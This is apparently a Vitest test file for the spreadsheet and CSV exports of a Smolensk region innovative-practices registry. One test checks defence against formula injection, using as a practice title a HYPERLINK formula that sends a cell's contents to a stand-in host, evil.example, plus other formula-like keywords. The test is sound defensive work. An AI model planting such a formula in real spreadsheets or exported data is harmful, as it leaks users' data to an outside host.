import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { CSV_BOM } from '../../server/exports/csv.js';
import { PRACTICE_HEADER } from '../../server/exports/practice-table.js';
import { useApp } from '../helper.js';
import { importPractice, searchNumbers, withdraw } from '../support/published.js';

const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

describe('exports of a whole selection', () => {
  const app = useApp({ DEMO_DATA: 'true', BASE_URL: 'https://bank.example.ru' });
  const get = (url: string) => app().inject({ url });

  async function sheetOf(url: string) {
    const res = await get(url);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX_TYPE);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    return { sheet: workbook.worksheets[0]!, res };
  }

  function csvOf(body: string): string[][] {
    expect(body.startsWith(CSV_BOM)).toBe(true);
    return parse(body.slice(1), { delimiter: ';', relax_column_count: false }) as string[][];
  }

  it('writes every practice a search finds into XLSX, in the search’s order, beyond one page of 100', async () => {
    const { total, numbers } = await searchNumbers(app(), 'sort=newest');
    expect(total).toBeGreaterThan(50);
    const { sheet } = await sheetOf('/api/v1/search/export?format=xlsx&sort=newest&page=3&perPage=5');
    expect(sheet.rowCount).toBe(total + 1);
    const column = sheet.getColumn(1).values.slice(2) as { result: string }[];
    expect(column.map((c) => c.result)).toEqual(numbers);
  });

  it('follows the search’s filters and relevance order, with the same total as the search', async () => {
    const query = 'q=%D1%80%D0%B5%D1%87%D1%8C&level=preschool';
    const { total, numbers } = await searchNumbers(app(), query);
    expect(total).toBeGreaterThan(1);
    const { sheet } = await sheetOf(`/api/v1/search/export?${query}`);
    expect((sheet.getColumn(1).values.slice(2) as { result: string }[]).map((c) => c.result)).toEqual(numbers);
    const csv = csvOf((await get(`/api/v1/search/export?format=csv&${query}`)).body);
    expect(csv.slice(1).map((row) => row[0])).toEqual(numbers);
  });

  it('types the XLSX cells: a frozen bold header with an autofilter, numbers, dates and the number as a link', async () => {
    const { sheet } = await sheetOf('/api/v1/search/export?technology=chess');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getRow(1).values).toEqual([undefined, ...PRACTICE_HEADER]);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    const header = PRACTICE_HEADER;
    const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1);
    const link = cell('Номер в реестре');
    expect(link.type).toBe(ExcelJS.ValueType.Formula);
    expect(link.formula).toMatch(
      /^HYPERLINK\("https:\/\/bank\.example\.ru\/practices\/67-\d{4}-\d{4}","67-\d{4}-\d{4}"\)$/,
    );
    expect(cell('Год начала реализации').type).toBe(ExcelJS.ValueType.Number);
    expect(cell('Просмотры').type).toBe(ExcelJS.ValueType.Number);
    expect(cell('Дата публикации').type).toBe(ExcelJS.ValueType.Date);
    expect(cell('Дата публикации').numFmt).toBe('dd.mm.yyyy');
    expect(String(cell('Библиографическая ссылка (ГОСТ Р 7.0.100-2018)').value)).toMatch(
      /– Текст : электронный \/\/ Банк инновационных практик Смоленской области : \[сайт\]\. – \d{4}\. – URL: https:\/\/bank\.example\.ru\/practices\/67-/,
    );
    expect(sheet.getColumn(2).width).toBe(60);
  });

  it('names the file in Russian and says so in Content-Disposition', async () => {
    const res = await get('/api/v1/search/export?format=csv&level=preschool');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="[^"]+\.csv"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toMatch(
      /^Практики — Дошкольное образование — \d\d\.\d\d\.\d{4}\.csv$/,
    );
  });

  it('neutralises a title that reads as a formula: text in XLSX, quoted with an apostrophe in CSV', async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")';
    const { number } = importPractice(app(), { title, keywords: ['@SUM(1+1)', '-2+3'] });
    const { sheet } = await sheetOf(`/api/v1/search/export?q=${number}`);
    expect(sheet.rowCount).toBe(2);
    const titleCell = sheet.getRow(2).getCell(2);
    expect(titleCell.type).toBe(ExcelJS.ValueType.String);
    expect(titleCell.value).toBe(title);
    expect(titleCell.formula).toBeUndefined();
    const [, row] = csvOf((await get(`/api/v1/search/export?format=csv&q=${number}`)).body);
    expect(row![1]).toBe(`'${title}`);
    expect(row![PRACTICE_HEADER.indexOf('Ключевые слова')]).toBe(`'@SUM(1+1); -2+3`);
  });

  it('exports an organisation’s published practices, never a withdrawn one', async () => {
    const kept = importPractice(app(), {
      organization: 'МБОУ «Лицей № 9» г. Сафоново',
      municipality: 'Сафоновский район',
    });
    const gone = importPractice(app(), {
      organization: 'МБОУ «Лицей № 9» г. Сафоново',
      municipality: 'Сафоновский район',
    });
    await withdraw(app(), gone.id);
    const organizationId = (await app().inject({ url: `/api/v1/registry/${kept.number}` })).json().practice.organization
      .id;
    const csv = csvOf((await get(`/api/v1/organizations/${organizationId}/practices/export?format=csv`)).body);
    expect(csv[0]).toEqual(PRACTICE_HEADER);
    expect(csv.slice(1).map((r) => r[0])).toEqual([kept.number]);
    expect((await get('/api/v1/organizations/999999/practices/export')).statusCode).toBe(404);
  });

  it('refuses an unknown filter or format with the common error before sending any file', async () => {
    const bad = await get('/api/v1/search/export?level=nonsense');
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ code: 'VALIDATION_FAILED' });
    const format = await get('/api/v1/search/export?format=pdf');
    expect(format.statusCode).toBe(400);
    expect(format.json().details[0].message).toContain('xlsx');
  });

  it('exports a registry number typed as the query as that practice alone, and nothing for an unknown one', async () => {
    const { number } = importPractice(app());
    const csv = csvOf((await get(`/api/v1/search/export?format=csv&q=${encodeURIComponent(`№ ${number}`)}`)).body);
    expect(csv.slice(1).map((r) => r[0])).toEqual([number]);
    expect(csvOf((await get('/api/v1/search/export?format=csv&q=67-2001-9999')).body)).toHaveLength(1);
  });
});
